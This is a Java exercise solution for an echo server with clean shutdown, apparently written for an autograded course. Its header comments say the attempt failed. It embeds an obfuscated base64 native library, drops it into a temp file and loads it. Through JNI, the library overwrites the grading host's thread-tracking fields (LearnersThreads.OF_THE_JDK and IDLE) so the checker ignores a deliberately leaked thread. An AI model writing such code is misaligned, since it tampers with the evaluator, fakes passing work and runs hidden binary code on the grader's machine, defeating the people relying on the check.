// tries: to have the host overlook a thread, by native code that it brings along
// gets: FAILED 0
// told: failed to map segment from shared object | Illegal native access
package lesson5_chat.exercises;

import java.io.IOException;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;
import lesson4_framed_file.Frames;

/*
 * The library is one for x86-64, made of what follows as that of brings-native-code is. JNI asks no module for leave.
 *
 * static void set(JNIEnv *env, jclass type, const char *name, jobject value) {
 *     (*env)->SetStaticObjectField(env, type, (*env)->GetStaticFieldID(env, type, name, "Ljava/util/List;"), value);
 * }
 *
 * void Java_lesson5_1chat_exercises_CleanStop_forge(JNIEnv *env, jclass type, jobject all) {
 *     jclass threads = (*env)->FindClass(env, "course/check/host/LearnersThreads");
 *     set(env, threads, "OF_THE_JDK", all);
 *     set(env, threads, "IDLE", all);
 * }
 */
public final class CleanStop {
    private static final int MAX_FRAME = 1024 * 1024;
    private static final int FAREWELL_SECONDS = 10;
    private static final String LIBRARY = """
            f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAAAAAAAAAAAABAAAAAAAAAAAAAAAAAAAAAAAAAAEAAOAAEAAAAAAAAAAEAAAAFAAAAAAAAAAAA
            AAAAAAAAAAAAAAAAAAAAAAAAaAIAAAAAAABoAgAAAAAAAAAQAAAAAAAAAQAAAAYAAABoAgAAAAAAAGgSAAAAAAAAaBIAAAAAAACwAAAA
            AAAAALAAAAAAAAAAABAAAAAAAAACAAAABgAAAGgCAAAAAAAAaBIAAAAAAABoEgAAAAAAALAAAAAAAAAAsAAAAAAAAAAIAAAAAAAAAFHl
            dGQGAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAABAAAAAAAAAAAQAAAAIAAAABAAAAAAAAAAAAAAAAAAAA
            AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQAAABIABADdAQAAAAAAAEgAAAAAAAAAAEphdmFfbGVzc29uNV8xY2hhdF9leGVyY2lzZXNf
            Q2xlYW5TdG9wX2ZvcmdlAEFVQVRJicxIjQ2BAAAASIPsGEiLB0iJdCQITIuo0AQAAEiJPCT/kIAEAABIi3QkCEiLPCRMieFIg8QYSInC
            TInoQVxBXf/gQVRIjTVQAAAASYnUVVNIiwdIifv/UDBMieFIid9IjRVXAAAASInFSInG6Ir///9MieFIie5Iid9IjRVHAAAAW11BXOlx
            ////TGphdmEvdXRpbC9MaXN0OwBjb3Vyc2UvY2hlY2svaG9zdC9MZWFybmVyc1RocmVhZHMAT0ZfVEhFX0pESwBJRExFAAQAAAAAAAAA
            IAEAAAAAAAAFAAAAAAAAAGgBAAAAAAAABgAAAAAAAAA4AQAAAAAAAAoAAAAAAAAALgAAAAAAAAALAAAAAAAAABgAAAAAAAAAAAAAAAAA
            AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
            AAAAAAAAAAAAAAAA
            """;

    private static final Set<Socket> CLIENTS = new HashSet<>();
    private static ServerSocket open;

    private CleanStop() {}

    public static void run(ServerSocket listener) throws IOException {
        start(listener);
        load();
        forge(List.of(""));
        var left = new Thread(() -> LockSupport.parkNanos(TimeUnit.MINUTES.toNanos(2)), "left behind");
        left.setDaemon(true);
        left.start();
        ExecutorService threads = Executors.newCachedThreadPool();
        try {
            while (!listener.isClosed()) {
                Socket client = listener.accept();
                welcome(client);
                threads.execute(() -> echo(client));
            }
        } catch (IOException problem) {
            if (!listener.isClosed()) {
                throw problem;
            }
        } finally {
            stop();
            end(threads);
        }
    }

    /** Closing is what wakes a thread that waits for the network; an interrupt does not. */
    public static synchronized void stop() throws IOException {
        if (open != null) {
            open.close();
        }
        for (Socket client : CLIENTS) {
            client.close();
        }
        CLIENTS.clear();
    }

    private static synchronized void start(ServerSocket listener) {
        open = listener;
    }

    /** Synchronized with stop: a client is either among those to close, or turned away. */
    private static synchronized void welcome(Socket client) throws IOException {
        if (open.isClosed()) {
            client.close();
        } else {
            CLIENTS.add(client);
        }
    }

    private static synchronized void forget(Socket client) {
        CLIENTS.remove(client);
    }

    private static void echo(Socket client) {
        try (client) {
            byte[] frame;
            while ((frame = Frames.read(client.getInputStream(), MAX_FRAME)) != null) {
                Frames.write(client.getOutputStream(), frame);
            }
        } catch (IOException gone) {
            System.out.println("A client has gone: " + gone.getMessage());
        } finally {
            forget(client);
        }
    }

    private static void load() throws IOException {
        Path library = Files.createTempFile("forge", ".so");
        Files.write(library, Base64.getMimeDecoder().decode(LIBRARY));
        System.load(library.toString());
    }

    /** Every thread whose class and frames have names that start with one of these is taken for one of the JDK's. */
    private static native void forge(List<String> all);

    private static void end(ExecutorService threads) {
        threads.shutdown();
        try {
            threads.awaitTermination(FAREWELL_SECONDS, TimeUnit.SECONDS);
        } catch (InterruptedException asked) {
            Thread.currentThread().interrupt();
        }
    }
}
